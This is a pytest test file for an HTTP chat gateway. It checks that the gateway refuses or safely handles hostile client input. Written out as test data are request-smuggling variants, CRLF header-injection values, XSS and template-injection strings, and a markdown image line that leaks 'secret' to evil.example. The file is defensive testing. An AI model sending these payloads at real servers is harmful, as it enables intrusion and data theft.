"""What clients send, over raw sockets: rows 33 to 42 of the fault matrix.

`running` asserts for each of them that no task, socket, stream or reader is left after five seconds.
"""

import asyncio
import json
import re
from collections.abc import AsyncIterator
from typing import Final
from urllib.parse import urlsplit

import msgspec
import pytest

from subak.core.facts import Crashed, StreamOpened
from subak.testing import PATIENCE_S, End, FakeClock, Head, ScriptedUpstream
from tests.integration.gateway import (
    ANSWER,
    CHAT,
    CHAT_STREAM,
    DONE,
    ONE_LOOP,
    Answer,
    Client,
    Running,
    ask,
    get,
    post,
    process,
    question_url,
    request_bytes,
    running,
    scripted,
    text_of,
)
from tests.transcripts.scenes import token

CANARY: Final = "kanarienvogel"
JSON: Final = ("Content-Type", "application/json")
BODY: Final = b'{"query":"x"}'
CHUNKS: Final = b"d\r\n" + BODY + b"\r\n0\r\n\r\n"
SECOND: Final = b"GET /api/v2/bali-zero/chat-stream?query=second HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n"
"""What must not be executed when it stands behind a request that was refused."""
KIB: Final = 1024
MIB: Final = 1024 * KIB


@pytest.fixture
async def upstream() -> AsyncIterator[ScriptedUpstream]:
    async with scripted(*ANSWER) as upstream:
        yield upstream


@pytest.fixture
async def gateway(upstream: ScriptedUpstream) -> AsyncIterator[Running]:
    async with running(upstream) as gateway:
        yield gateway
    assert not gateway.observer.of(Crashed)


def asking(
    headers: bytes, body: bytes = BODY, *, version: bytes = b"1.1", target: bytes = CHAT_STREAM.encode()
) -> bytes:
    """Spell a POST with a question; `headers` are those of its framing."""
    head = b"POST " + target + b" HTTP/" + version + b"\r\nHost: a\r\nContent-Type: application/json\r\n"
    return head + headers + b"\r\n" + body


async def answered(gateway: Running, *pieces: bytes) -> Answer:
    """Send pieces, one after the other; give the one answer after which the server has closed."""
    async with Client.connect(gateway.url) as client:
        client.expect("GET")
        try:
            for piece in pieces:
                await client.send(piece)
                await asyncio.sleep(0)  # a round of the loop: the server may read it by itself
        except ConnectionError:
            pass  # it has closed already, after its answer
        answer = await client.whole()
        assert await client.is_closed_by_server()
    return answer


async def everything(gateway: Running, content: bytes) -> list[tuple[int, bytes]]:
    """Send bytes, the last request of which closes; give each answer's status, and what comes up to the next."""
    parts = urlsplit(gateway.url)
    reader, writer = await asyncio.open_connection(parts.hostname, parts.port)
    try:
        writer.write(content)
        async with asyncio.timeout(PATIENCE_S):
            received = await reader.read()
    finally:
        writer.close()
        await writer.wait_closed()
    _, *found = re.split(rb"HTTP/1\.[01] (\d{3}) ", received)
    return [(int(status), rest) for status, rest in zip(found[::2], found[1::2], strict=True)]


def assert_started_nothing(gateway: Running, upstream: ScriptedUpstream) -> None:
    assert upstream.questions == 0
    assert not gateway.observer.of(StreamOpened)


@pytest.mark.parametrize(
    ("method", "target", "status"),
    [
        ("HEAD", question_url(), 405),
        ("HEAD", "/livez", 405),
        ("OPTIONS", question_url(), 204),
        ("OPTIONS", "*", 404),
        ("PUT", question_url(), 405),
        ("PATCH", CHAT_STREAM, 405),
        ("TRACE", question_url(), 405),
        ("QUERY", question_url(), 405),
        ("CONNECT", "example.org:80", 404),
        ("BREW", question_url(), 400),
        ("get", question_url(), 400),
        ("PRI", "*", 400),
    ],
)
async def test_c33_other_methods_have_a_status_and_start_nothing(
    gateway: Running, upstream: ScriptedUpstream, method: str, target: str, status: int
) -> None:
    answer = await ask(gateway, method, target)
    assert (answer.status, answer.is_clean) == (status, True)
    assert method != "HEAD" or not answer.body
    assert_started_nothing(gateway, upstream)


async def test_c33_a_preflight_of_a_page_that_is_not_allowed_starts_nothing(
    gateway: Running, upstream: ScriptedUpstream
) -> None:
    asked = [("Origin", "https://evil.example"), ("Access-Control-Request-Method", "POST")]
    assert (await ask(gateway, "OPTIONS", CHAT_STREAM, asked)).status == 403
    assert_started_nothing(gateway, upstream)


@pytest.mark.parametrize("connection", ["close", "keep-alive"])
async def test_c33_http_1_0_gets_its_stream_framed_by_close(gateway: Running, connection: str) -> None:
    raw = f"GET {question_url()} HTTP/1.0\r\nConnection: {connection}\r\n\r\n".encode()
    answer = await answered(gateway, raw)
    assert (answer.status, answer.header("Transfer-Encoding")) == (200, None)
    assert text_of(answer.frames) == "Ciao mondo"


@pytest.mark.parametrize(("version", "status"), [("0.9", 505), ("1.2", 400), ("2.0", 505), ("9.9", 400)])
async def test_c33_other_versions_are_refused(
    gateway: Running, upstream: ScriptedUpstream, version: str, status: int
) -> None:
    raw = f"GET {question_url()} HTTP/{version}\r\nHost: a\r\nConnection: close\r\n\r\n".encode()
    assert (await answered(gateway, raw)).status == status
    assert_started_nothing(gateway, upstream)


async def test_c33_a_held_back_body_is_asked_for(gateway: Running) -> None:
    async with Client.connect(gateway.url) as client:
        client.expect("POST")
        await client.send(asking(b"Expect: 100-continue\r\nContent-Length: 13\r\n", b""))
        assert not client.answer.status
        await client.send(BODY)
        assert text_of((await client.whole()).frames) == "Ciao mondo"


async def test_c33_another_expectation_is_417_and_starts_nothing(gateway: Running, upstream: ScriptedUpstream) -> None:
    answer = await answered(gateway, asking(b"Expect: 200-ok\r\nContent-Length: 13\r\n", b""))
    assert answer.status == 417
    assert_started_nothing(gateway, upstream)


@pytest.mark.parametrize("target", ["/nothing/here", "/livez", CHAT_STREAM])
@pytest.mark.parametrize("expected", [CANARY, "\x80\xff", "100-continue, 200-ok", ""])
async def test_c33_an_unknown_expectation_is_repeated_nowhere(gateway: Running, target: str, expected: str) -> None:
    answer = await ask(gateway, "PUT", target, [("Expect", expected)])
    assert answer.status in ({417} if expected else {404, 405})
    assert answer.header("Content-Type") == "application/problem+json"
    assert CANARY.encode() not in answer.body


TE: Final = b"Transfer-Encoding: chunked\r\n"
CL: Final = b"Content-Length: 13\r\n"
NO_HOSTS: Final = (
    *b'a/b@c u@a u:p@a a?b a#b a\\b "a" <a> http://a a/ a:b a:80:80 a:-1 :80 a% a%zz a|b a^b a{b} [] [a/b]'.split(),
    *b"[::1 ::1] [::1]a [::1]:a [::1%25eth0] \xc3\xa9.example \xff a:\xd9\xa1".split(),
    *(b"", b" ", b"a b", b"a\tb", b"a\0b", b"a\x01", b"a\x7f"),
)
HOSTS: Final = (*b"a.example:80 a: 127.0.0.1:80 [::1] [2001:db8::1]:443 [v1.a:b] a_b a%41".split(), b" a ")
AMBIGUOUS: Final = {
    "length, then coding": asking(CL + TE, CHUNKS),
    "coding, then length": asking(TE + CL, CHUNKS),
    "two equal lengths": asking(CL + CL),
    "two lengths": asking(CL + b"Content-Length: 0\r\n"),
    "list of lengths": asking(b"Content-Length: 13, 13\r\n"),
    "length with plus": asking(b"Content-Length: +13\r\n"),
    "length below zero": asking(b"Content-Length: -13\r\n"),
    "hexadecimal length": asking(b"Content-Length: 0xd\r\n"),
    "length with underscore": asking(b"Content-Length: 1_3\r\n"),
    "length in other digits": asking("Content-Length: ١٣\r\n".encode()),
    "empty length": asking(b"Content-Length: \r\n"),
    "length past 64 bits": asking(b"Content-Length: 99999999999999999999999999\r\n"),
    "length with a space in it": asking(b"Content-Length: 1 3\r\n"),
    "length behind a vertical tab": asking(b"Content-Length: \x0b13\r\n"),
    "space before the colon of the length": asking(b"Content-Length : 13\r\n"),
    "space before the colon of the coding": asking(b"Transfer-Encoding : chunked\r\n", CHUNKS),
    "tab before the colon of the coding": asking(b"Transfer-Encoding\t: chunked\r\n", CHUNKS),
    "identity": asking(b"Transfer-Encoding: identity\r\n", CHUNKS),
    "chunked, identity": asking(b"Transfer-Encoding: chunked, identity\r\n", CHUNKS),
    "identity, chunked": asking(b"Transfer-Encoding: identity, chunked\r\n", CHUNKS),
    "gzip, chunked": asking(b"Transfer-Encoding: gzip, chunked\r\n", CHUNKS),
    "chunked, chunked": asking(b"Transfer-Encoding: chunked, chunked\r\n", CHUNKS),
    "nothing, chunked": asking(b"Transfer-Encoding: , chunked\r\n", CHUNKS),
    "chunked, nothing": asking(b"Transfer-Encoding: chunked,\r\n", CHUNKS),
    "xchunked": asking(b"Transfer-Encoding: xchunked\r\n", CHUNKS),
    "chunkedx": asking(b"Transfer-Encoding: chunkedx\r\n", CHUNKS),
    "quoted chunked": asking(b'Transfer-Encoding: "chunked"\r\n', CHUNKS),
    "chunked with a parameter": asking(b"Transfer-Encoding: chunked;q=1\r\n", CHUNKS),
    "chunked twice": asking(TE + TE, CHUNKS),
    "chunked, and identity in a second header": asking(TE + b"Transfer-Encoding: identity\r\n", CHUNKS),
    "empty coding": asking(b"Transfer-Encoding: \r\n", CHUNKS),
    "chunked behind a vertical tab": asking(b"Transfer-Encoding: \x0bchunked\r\n", CHUNKS),
    "chunked in HTTP/1.0": asking(TE, CHUNKS, version=b"1.0"),
    "folded coding": asking(b"Transfer-Encoding:\r\n chunked\r\n", CHUNKS),
    "bare LF throughout": asking(CL).replace(b"\r\n", b"\n"),
    "one bare LF": asking(b"X: a\n" + CL),
    "bare CR": asking(b"X: a\rY: b\r\n" + CL),
    "folded header": asking(b"X: a\r\n b\r\n" + CL),
    "header that begins with a space": b"GET / HTTP/1.1\r\n Host: a\r\n\r\n",
    "NUL in a value": asking(b"X: a\0b\r\n" + CL),
    "NUL in a name": asking(b"X\0: b\r\n" + CL),
    "NUL in the target": b"GET /\0 HTTP/1.1\r\nHost: a\r\n\r\n",
    "empty name": asking(b": b\r\n" + CL),
    "name with a bracket": asking(b"X(y): b\r\n" + CL),
    "name past ASCII": asking(b"X\xe9: b\r\n" + CL),
    "no host": b"GET /livez HTTP/1.1\r\n\r\n",
    "two hosts": b"GET /livez HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n",
    "two equal hosts": b"GET /livez HTTP/1.1\r\nHost: a\r\nHost: a\r\n\r\n",
    "two hosts in HTTP/1.0": b"GET /livez HTTP/1.0\r\nHost: a\r\nHost: b\r\n\r\n",
    "folded host": b"GET /livez HTTP/1.1\r\nHost: a\r\n b\r\n\r\n",
    **{f"host {host!r}": b"GET /livez HTTP/1.1\r\nHost: " + host + b"\r\n\r\n" for host in NO_HOSTS},
    "bad host in HTTP/1.0": b"GET /livez HTTP/1.0\r\nHost: a/b\r\nConnection: keep-alive\r\n\r\n",
    "bad host beside an absolute target": b"GET http://a/livez HTTP/1.1\r\nHost: a/b@c\r\n\r\n",
    "bad host of a question": asking(CL).replace(b"Host: a", b"Host: a/b@c"),
    "space in the target": b"GET /li vez HTTP/1.1\r\nHost: a\r\n\r\n",
    "target without a slash": b"GET livez HTTP/1.1\r\nHost: a\r\n\r\n",
    "absolute target that is none": b"GET http://[::1/livez HTTP/1.1\r\nHost: a\r\n\r\n",
    "absolute target with a wrong port": b"GET http://a:99999999/livez HTTP/1.1\r\nHost: a\r\n\r\n",
    "no version": b"GET /livez\r\n\r\n",
    "space after the version": b"GET /livez HTTP/1.1 \r\nHost: a\r\n\r\n",
    "chunk with a bare LF behind its extension": asking(TE, b"d;a\n" + BODY + b"\r\n0\r\n\r\n"),
    "chunk extension with a bare LF in it": asking(TE, b"d;a=\nxx\r\n" + BODY + b"\r\n0\r\n\r\n"),
    "chunk extension with a quoted line end": asking(TE, b'd;a="\r\n"\r\n' + BODY + b"\r\n0\r\n\r\n"),
    "chunk extension with a bare CR": asking(TE, b"d;a\rb\r\n" + BODY + b"\r\n0\r\n\r\n"),
    "chunk size with plus": asking(TE, b"+d\r\n" + BODY + b"\r\n0\r\n\r\n"),
    "chunk size below zero": asking(TE, b"-d\r\n" + BODY + b"\r\n0\r\n\r\n"),
    "chunk size with 0x": asking(TE, b"0xd\r\n" + BODY + b"\r\n0\r\n\r\n"),
    "chunk size with underscore": asking(TE, b"0_d\r\n" + BODY + b"\r\n0\r\n\r\n"),
    "space before a chunk size": asking(TE, b" d\r\n" + BODY + b"\r\n0\r\n\r\n"),
    "space behind a chunk size": asking(TE, b"d \r\n" + BODY + b"\r\n0\r\n\r\n"),
    "chunks with bare LF": asking(TE, CHUNKS.replace(b"\r\n", b"\n")),
    "chunk size with a bare LF": asking(TE, b"d\n" + BODY + b"\r\n0\r\n\r\n"),
    "chunk size with a bare CR": asking(TE, b"d\r" + BODY + b"\r\n0\r\n\r\n"),
    "chunk with a bare LF behind it": asking(TE, b"d\r\n" + BODY + b"\n0\r\n\r\n"),
    "chunk with nothing behind it": asking(TE, b"d\r\n" + BODY + b"0\r\n\r\n"),
    "chunk longer than its size": asking(TE, b"5\r\n" + BODY + b"\r\n0\r\n\r\n"),
    "chunk size past 64 bits": asking(TE, b"f" * 17 + b"\r\n" + BODY + b"\r\n0\r\n\r\n"),
    "empty chunk size": asking(TE, b"\r\n" + BODY + b"\r\n0\r\n\r\n"),
    "trailer that is a length": asking(TE, b"d\r\n" + BODY + b"\r\n0\r\nContent-Length: 5\r\n\r\n"),
    "trailer without a colon": asking(TE, b"d\r\n" + BODY + b"\r\n0\r\nX y\r\n\r\n"),
}


@ONE_LOOP
@pytest.mark.parametrize("name", AMBIGUOUS)
async def test_c34_an_ambiguous_request_is_400_and_nothing_behind_it_is_executed(
    gateway: Running, upstream: ScriptedUpstream, name: str
) -> None:
    answer = await answered(gateway, AMBIGUOUS[name] + SECOND)
    assert (answer.status, answer.header("Content-Type")) == (400, "application/problem+json")
    assert_started_nothing(gateway, upstream)


@pytest.mark.parametrize("name", [name for name in AMBIGUOUS if "chunk" in name or "trailer" in name])
async def test_c34_the_same_when_it_comes_byte_by_byte(gateway: Running, upstream: ScriptedUpstream, name: str) -> None:
    raw = AMBIGUOUS[name] + SECOND
    answer = await answered(gateway, *(raw[at : at + 1] for at in range(len(raw))))
    assert (answer.status, answer.header("Content-Type")) == (400, "application/problem+json")
    assert_started_nothing(gateway, upstream)


async def test_c34_a_chunk_that_breaks_on_the_way_to_chat_is_400_too(
    gateway: Running, upstream: ScriptedUpstream
) -> None:
    async with Client.connect(gateway.url) as client:
        client.expect("POST")
        await client.send(asking(TE, b"d\r\n" + BODY + b"\r\n", target=CHAT.encode()))
        async with asyncio.timeout(PATIENCE_S):
            while not upstream.connections:  # noqa: ASYNC110 - nothing announces it
                await asyncio.sleep(0)
        await client.send(b"zz\r\n" + SECOND)
        assert (await client.whole()).status == 400
        assert await client.is_closed_by_server()
    assert upstream.questions == 0


PROBLEMS_OF_FRAMING: Final = {(status, "application/problem+json") for status in (400, 431)}
"""The second one is for trailers: they are headers too."""


@pytest.mark.parametrize(
    "flood",
    [
        pytest.param(b"1;" + b"a" * 2 * MIB, id="one extension without an end"),
        pytest.param((b"1;" + b"a" * 1000 + b"\r\nx\r\n") * 2000, id="an extension on each chunk"),
        pytest.param(b"0\r\n" + b"X: y\r\n" * 300_000, id="trailers"),
    ],
)
@pytest.mark.parametrize("target", [CHAT_STREAM, CHAT])
async def test_c34_a_body_that_is_all_framing_is_400_long_before_its_time_is_over(
    upstream: ScriptedUpstream, flood: bytes, target: str
) -> None:
    async with running(upstream, clock=FakeClock()) as gateway:
        answer = await answered(gateway, asking(TE, b"", target=target.encode()), flood)
        assert (answer.status, answer.header("Content-Type")) in PROBLEMS_OF_FRAMING
        assert_started_nothing(gateway, upstream)
        gateway.pass_time(1)  # for what it will drop of the flood before it closes


async def test_c34_a_body_in_chunks_of_a_byte_is_no_flood(upstream: ScriptedUpstream) -> None:
    question = b'{"query":"' + b"x" * 250 * KIB + b'"}'
    chunks = b"".join(b"1\r\n%c\r\n" % byte for byte in question) + b"0\r\n\r\n"
    assert len(chunks) > MIB
    async with running(upstream) as gateway, Client.connect(gateway.url) as client:
        client.expect("POST")
        await client.send(asking(TE, chunks, target=CHAT.encode()))
        assert (await client.whole()).status == 200
        assert upstream.requests[0].body == question


UNAMBIGUOUS: Final = {
    "spaces around the length": asking(b"Content-Length:  13 \r\n"),
    "names without case": asking(b"tRANSFER-eNCODING: ChUnKeD\r\n", CHUNKS),
    "a header that only looks like the coding": asking(b"Transfer_Encoding: chunked\r\n" + CL),
    "chunk extension": asking(TE, b"d;a=b\r\n" + BODY + b"\r\n0\r\n\r\n"),
    "many zeros before the size": asking(TE, b"0" * 1000 + CHUNKS),
    "body of a GET": b"GET /livez HTTP/1.1\r\nHost: a\r\n" + CL + b"\r\n" + BODY,
    "chunked body of a GET": b"GET /livez HTTP/1.1\r\nHost: a\r\n" + TE + b"\r\n" + CHUNKS,
    "absolute target": b"GET http://evil.example/livez HTTP/1.1\r\nHost: a\r\n\r\n",
    **{f"host {host!r}": b"GET /livez HTTP/1.1\r\nHost: " + host + b"\r\n\r\n" for host in HOSTS},
    "two slashes": b"GET //evil.example/livez HTTP/1.1\r\nHost: a\r\n\r\n",
    "encoded line end": b"GET /livez%0d%0aX:%20y HTTP/1.1\r\nHost: a\r\n\r\n",
    "line ends before": b"\r\n\r\nGET /livez HTTP/1.1\r\nHost: a\r\n\r\n",
    "body that looks like a request": asking(b"Content-Length: %d\r\n" % len(SECOND), SECOND),
}


@ONE_LOOP
@pytest.mark.parametrize("name", UNAMBIGUOUS)
async def test_c34_an_odd_request_ends_where_it_says_and_the_next_is_answered_once(
    gateway: Running, upstream: ScriptedUpstream, name: str
) -> None:
    answers = await everything(gateway, UNAMBIGUOUS[name] + SECOND)
    assert len(answers) == 2
    assert answers[1][0] == 200
    assert [request.target for request in upstream.requests][-1:] == ["/bali-zero/chat-stream?query=second"]
    assert upstream.questions == 1 + (
        b"query" in UNAMBIGUOUS[name] and answers[0][0] == 200 and b"POST" in UNAMBIGUOUS[name]
    )


async def test_c34_pipelined_requests_are_answered_in_their_order(gateway: Running, upstream: ScriptedUpstream) -> None:
    asked = [request_bytes("GET", question_url(f"n{number}")) for number in range(20)]
    answers = await everything(gateway, b"".join(asked) + SECOND)
    assert [status for status, _ in answers] == [200] * 21
    asked_for = [request.target.rpartition("=")[2] for request in upstream.requests]
    assert asked_for == [*(f"n{number}" for number in range(20)), "second"]


@pytest.mark.parametrize("protocol", ["h2c", "websocket", "TLS/1.0", "unheard-of"])
@pytest.mark.parametrize("method", ["GET", "POST"])
async def test_c34_nothing_follows_on_a_connection_that_somebody_wants_upgraded(
    gateway: Running, upstream: ScriptedUpstream, method: str, protocol: str
) -> None:
    headers = f"Connection: Upgrade\r\nUpgrade: {protocol}\r\n".encode()
    raw = asking(headers + CL) if method == "POST" else b"GET /livez HTTP/1.1\r\nHost: a\r\n" + headers + b"\r\n"
    answer = await answered(gateway, raw + SECOND)
    assert (answer.status, answer.header("Connection")) == (200, "close")
    assert upstream.questions == (method == "POST")


async def test_c34_an_encoded_line_end_reaches_the_backend_encoded(
    gateway: Running, upstream: ScriptedUpstream
) -> None:
    answer = await get(gateway, f"{CHAT_STREAM}?query=x%0d%0aInjected:%20y&session_id=a")
    assert "injected" not in {name.lower() for name, _ in answer.headers}
    assert upstream.requests[0].target == "/bali-zero/chat-stream?query=x%0D%0AInjected%3A%20y"
    assert "injected" not in upstream.requests[0].headers


LINE: Final = "GET /livez HTTP/1.1\r\nHost: a\r\n"
BOMBS: Final = {
    "10 000 headers": (LINE + "A: b\r\n" * 10_000 + "\r\n", 431),
    "129 headers": (LINE + "A: b\r\n" * 128 + "\r\n", 431),
    "one header of a megabyte": (LINE + f"A: {'b' * MIB}\r\n\r\n", 431),
    "a megabyte in 50 headers": (LINE + f"A: {'b' * 20_000}\r\n" * 50 + "\r\n", 431),
    "80 KB in 4 headers": (LINE + f"A: {'b' * 20_000}\r\n" * 4 + "\r\n", 431),
    "a megabyte in 50 headers without an end": (LINE + f"A: {'b' * 20_000}\r\n" * 50, 431),
    "a megabyte in one name": (LINE + "A" * MIB + ": b\r\n\r\n", 431),
    "10 000 trailers": (asking(TE, CHUNKS[:-2]).decode() + "A: b\r\n" * 10_000 + "\r\n", 431),
    "64 KB of target": (f"GET {CHAT_STREAM}?query={'x' * 64 * KIB} HTTP/1.1\r\nHost: a\r\n\r\n", 414),
    "a megabyte of target": (f"GET /{'x' * MIB} HTTP/1.1\r\nHost: a\r\n\r\n", 414),
    "a megabyte of method": ("G" * MIB, 400),
    "a megabyte of empty lines": ("\r\n" * (MIB // 2), 431),
}


@ONE_LOOP
@pytest.mark.parametrize("name", BOMBS)
async def test_c35_too_large_a_head_is_refused_and_its_sender_can_read_why(
    gateway: Running, upstream: ScriptedUpstream, name: str
) -> None:
    raw, status = BOMBS[name]
    async with Client.connect(gateway.url) as client:
        client.expect("GET")
        await client.send(raw.encode())
        answer = await client.whole()
    assert (answer.status, answer.is_clean) == (status, True)
    assert_started_nothing(gateway, upstream)


@ONE_LOOP
@pytest.mark.parametrize(
    ("target", "framing"),
    [
        (CHAT_STREAM, b"Content-Length: 100000000\r\n"),
        (CHAT_STREAM, TE),
        ("/livez", TE),
        ("/nothing/here", b"Content-Length: 100000000\r\n"),
    ],
)
async def test_c36_a_body_of_100_mb_is_refused_without_being_taken(
    gateway: Running, upstream: ScriptedUpstream, target: str, framing: bytes
) -> None:
    piece = b"x" * 64 * KIB
    if framing is TE:
        piece = b"%x\r\n%b\r\n" % (len(piece), piece)
    async with Client.connect(gateway.url) as client:
        client.expect("POST")
        sent_bytes = 0
        try:
            async with asyncio.timeout(PATIENCE_S):
                await client.send(asking(framing, b"", target=target.encode()))
                while sent_bytes < 100_000_000:
                    await client.send(piece)
                    sent_bytes += len(piece)
        except ConnectionError:
            pass  # the server has lost its patience
    assert sent_bytes < 20 * MIB, "most of it is what the kernel takes for both sides"
    assert_started_nothing(gateway, upstream)


async def test_c36_the_sender_of_too_much_can_read_why(gateway: Running, upstream: ScriptedUpstream) -> None:
    async with Client.connect(gateway.url) as client:
        client.expect("POST")
        await client.send(asking(b"Content-Length: 100000000\r\n", b"x" * MIB))
        answer = await client.whole()
        assert (answer.status, answer.header("Connection")) == (413, "close")
    assert_started_nothing(gateway, upstream)


@pytest.mark.parametrize("framing", [b"Content-Length: 50\r\n", TE])
async def test_c36_a_body_that_ends_too_early_starts_nothing(
    gateway: Running, upstream: ScriptedUpstream, framing: bytes
) -> None:
    body = b"50\r\n" + BODY if framing is TE else BODY
    async with Client.connect(gateway.url) as client:
        await client.send(asking(framing, body))
    assert_started_nothing(gateway, upstream)


async def test_c36_what_is_past_the_length_is_the_next_request(gateway: Running, upstream: ScriptedUpstream) -> None:
    answer = await answered(gateway, asking(b"Content-Length: 5\r\n"))
    assert answer.status == 400
    assert_started_nothing(gateway, upstream)


async def test_c36_without_length_and_coding_there_is_no_body(gateway: Running, upstream: ScriptedUpstream) -> None:
    async with Client.connect(gateway.url) as client:
        client.expect("POST")
        await client.send(asking(b"", b""))
        assert (await client.whole()).status == 400
    assert_started_nothing(gateway, upstream)


TURN: Final = {"role": "user", "content": CANARY}
SHAPES: Final[dict[str, tuple[object, int, str]]] = {
    "history of 10 000 turns": ({"query": "x", "conversation_history": [TURN] * 10_000}, 422, "$.conversation_history"),
    "history of 300 KB": (
        {"query": "x", "conversation_history": [{"role": "user", "content": CANARY * 24_000}]},
        422,
        "$.conversation_history",
    ),
    "query of 500 KB": ({"query": CANARY * 40_000}, 422, "$.query"),
    "query of a megabyte": ({"query": CANARY * 90_000}, 413, ""),
    "query that is a number of 4300 digits": ({"query": 10**4299}, 422, "$.query"),
    "number of 4300 digits in the history": (
        {"query": "x", "conversation_history": [{"role": "user", "content": 10**4299}]},
        422,
        "$.conversation_history[0].content",
    ),
    "list for a query": ({"query": [CANARY]}, 422, "$.query"),
    "text for a history": ({"query": "x", "conversation_history": CANARY}, 422, "$.conversation_history"),
}


@ONE_LOOP
@pytest.mark.parametrize("name", SHAPES)
async def test_i37_too_much_or_another_type_names_the_field_and_repeats_nothing(
    gateway: Running, upstream: ScriptedUpstream, name: str
) -> None:
    fields, status, path = SHAPES[name]
    answer = await ask(gateway, "POST", CHAT_STREAM, [JSON], json.dumps(fields).encode())
    assert answer.status == status
    assert f'"path":"{path}"'.encode() in answer.body or not path
    assert CANARY.encode() not in answer.body
    assert_started_nothing(gateway, upstream)


@pytest.mark.parametrize("opening", [b"[", b'{"a":', b'{"query":[', b'{"conversation_history":[{"x":'])
async def test_i37_deep_json_is_refused(gateway: Running, upstream: ScriptedUpstream, opening: bytes) -> None:
    answer = await ask(gateway, "POST", CHAT_STREAM, [JSON], opening * (500_000 // len(opening)))
    assert answer.status in {400, 422}
    assert_started_nothing(gateway, upstream)


ODD_BYTES: Final = [
    b'"\xff"',
    b'"\xc0\xaf"',
    b'"\xed\xa0\x80"',
    b'"\xf4\x90\x80\x80"',
    rb'"\ud800"',
    rb'"\udc00\ud800"',
    b'"a\nb"',
    rb'"\x00"',
]


@ONE_LOOP
@pytest.mark.parametrize("text", ODD_BYTES, ids=repr)
async def test_i38_text_that_is_none_is_refused(gateway: Running, upstream: ScriptedUpstream, text: bytes) -> None:
    answer = await ask(gateway, "POST", CHAT_STREAM, [JSON], b'{"query":' + text + b"}")
    assert answer.status in {400, 422}
    assert_started_nothing(gateway, upstream)


KEPT_TEXTS: Final = ["a\0b", "a\u200bb", "\u202eevil\u202c", "a\nb\r\n\x1b[31m", "a\u2028\x85", "\ufeffa", "😀"]


@ONE_LOOP
@pytest.mark.parametrize("text", KEPT_TEXTS, ids=repr)
async def test_i38_odd_text_reaches_the_backend_as_it_is(
    gateway: Running, upstream: ScriptedUpstream, text: str
) -> None:
    assert (await post(gateway, CHAT_STREAM, {"query": text})).status == 200
    assert upstream.requests[0].target == question_url(text).removeprefix("/api/v2")


@ONE_LOOP
async def test_i38_odd_text_leaves_each_log_line_one_line_of_json() -> None:
    async with (
        scripted(*ANSWER) as upstream,
        process("serve", ENABLE_SSE_STREAMING="true", RAG_BACKEND_URL=upstream.url, SUBAK_LOG__FORMAT="json") as subak,
    ):
        url = await subak.url()
        hostile = "a%0a%0d%00%1b%5b31m%e2%80%a8%c2%85"
        for text in KEPT_TEXTS:
            body = msgspec.json.encode({"query": text, "user_role": text})
            await ask(url, "POST", CHAT_STREAM, [JSON, ("User-Agent", "x\x1b[31m")], body)
        for target in (f"{CHAT_STREAM}?query={hostile}", f"/v1/streams/{hostile}", f"/{hostile}?{hostile}={hostile}"):
            await ask(url, "GET", target, [("x-connection-id", hostile)])
        subak.signal(15)
        code, out, err = await subak.ended()
    assert code == 0
    assert all(json.loads(line)["event"] for line in out.removesuffix("\n").split("\n"))
    assert "\x1b" not in out + err


@ONE_LOOP
@pytest.mark.parametrize("role", ["system", "tool", "developer", "function", "User", "assistant ", "", None, 5])
async def test_i39_only_users_and_assistants_speak_in_a_history(
    gateway: Running, upstream: ScriptedUpstream, role: object
) -> None:
    history = [TURN, {"role": role, "content": CANARY}]
    by_body = await post(gateway, CHAT_STREAM, {"query": "x", "conversation_history": history})
    by_url = await get(gateway, question_url(conversation_history=json.dumps(history)))
    for answer in (by_body, by_url):
        assert answer.status == 422
        assert b'"path":"$.conversation_history[1].role"' in answer.body
        assert CANARY.encode() not in answer.body
    assert_started_nothing(gateway, upstream)


INJECTION: Final = "a%0d%0aInjected:%20y"


@pytest.mark.parametrize(
    "name", ["X-Request-Id", "Last-Event-ID", "x-connection-id", "x-session-id", "Idempotency-Key"]
)
@pytest.mark.parametrize(
    "value", [INJECTION, "a\rInjected: y", "a\nInjected: y", "a\r\n Injected: y", "a\0b", "a\x85b"]
)
async def test_c40_line_ends_in_a_header_are_never_reflected(
    gateway: Running, upstream: ScriptedUpstream, name: str, value: str
) -> None:
    answer = await get(gateway, question_url(), **{name.replace("-", "_"): value})
    assert answer.status in {200, 400}
    assert not any("njected" in header or value in header for pair in answer.headers for header in pair)
    assert INJECTION.encode() not in answer.body
    assert all("injected" not in request.headers for request in upstream.requests)


@ONE_LOOP
@pytest.mark.parametrize("name", ["query", "last_event_id", "session_id", "x-session-id", "on_disconnect", "user_role"])
async def test_c40_line_ends_in_a_parameter_are_never_reflected(
    gateway: Running, upstream: ScriptedUpstream, name: str
) -> None:
    answer = await get(gateway, f"{CHAT_STREAM}?query=x&{name}={INJECTION}")
    assert answer.status in {200, 400, 422}
    assert not any("njected" in header for pair in answer.headers for header in pair)
    assert all("injected" not in request.headers for request in upstream.requests)


async def test_c41_a_connection_id_that_two_clients_bring_is_no_way_to_the_other_s_answer() -> None:
    async with (
        ScriptedUpstream([Head(), token("one"), DONE, End()], [Head(), token("two"), DONE, End()]) as upstream,
        running(upstream) as gateway,
    ):
        answers = [await get(gateway, question_url(name), x_connection_id="c_same") for name in ("one", "two")]
        stream_ids = {answer.header("Subak-Stream-Id") for answer in answers}
        assert [text_of(answer.frames) for answer in answers] == ["one", "two"]
        assert [answer.header("X-Connection-ID") for answer in answers] == ["c_same", "c_same"]
        assert len(stream_ids) == 2
        assert (await get(gateway, "/v1/streams/c_same/events")).status == 404
        assert (await get(gateway, question_url(), Last_Event_ID="c_same.1")).status == 400


async def test_c41_stream_ids_have_128_bits_of_chance_in_them(gateway: Running) -> None:
    made = [await post(gateway, "/v1/streams", {"query": "x"}) for _ in range(50)]
    ids = [msgspec.json.decode(answer.body, type=dict[str, str])["id"] for answer in made]
    tags, chances = {stream_id[:-22] for stream_id in ids}, {stream_id[-22:] for stream_id in ids}
    assert (len(tags), len(chances)) == (1, 50)
    for at in range(21):  # base64url: 6 bits a character; the last one has 2
        assert len({chance[at] for chance in chances}) > 15, f"character {at} hardly varies"


MODEL_OUTPUT: Final = (
    "<script>alert(1)</script>",
    "![x](http://evil.example/?q=secret)",
    "[a](javascript:alert(1))",
    "\x1b[2J\x1b]0;title\x07\x9b31m",
    "</textarea><img src=x onerror=alert(1)>",
    "{{7*7}}${7*7}<%= 7*7 %>",
)


async def test_i42_what_a_model_says_arrives_byte_for_byte_and_as_no_page() -> None:
    async with (
        ScriptedUpstream([Head(), *map(token, MODEL_OUTPUT), DONE, End()]) as upstream,
        running(upstream) as gateway,
    ):
        answer = await get(gateway, question_url())
        assert [frame.data for frame in answer.frames if frame.type == "token"] == list(MODEL_OUTPUT)
        assert answer.header("Content-Type") == "text/event-stream"
